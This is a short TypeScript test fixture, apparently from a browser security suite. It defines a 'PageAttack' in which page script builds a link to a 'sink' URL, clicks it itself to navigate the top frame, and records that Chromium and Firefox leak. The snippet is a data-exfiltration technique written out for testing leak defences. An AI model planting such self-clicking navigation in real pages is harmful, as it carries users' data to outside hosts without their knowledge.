import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a link that is clicked by the page itself",
  script: `
    const link = document.createElement("a");
    Object.assign(link, { href: sink, target: "_top" });
    document.body.append(link);
    link.click();
    await new Promise((later) => setTimeout(later, 500));
  `,
  plainLeak: ["chromium", "firefox"],
};
